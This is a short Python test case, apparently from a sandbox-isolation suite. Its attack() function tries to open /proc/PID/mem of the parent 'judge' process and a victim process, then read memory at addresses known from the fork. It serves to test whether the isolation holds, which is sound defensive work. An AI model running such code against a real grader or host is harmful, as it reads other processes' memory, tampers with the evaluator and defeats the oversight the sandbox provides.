"""reads the judge's memory through /proc/PID/mem at an address known from the fork"""

import os

import torch


def attack():
    for pid in (os.getppid(), TARGETS["victim"]):
        for address in (id(torch), id(os), id(None)):
            try:
                with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
                    reached(f"the memory of {pid} is open")
                    file.seek(address)
                    reached(f"memory of {pid}: {file.read(8)}")
            except OSError:
                pass
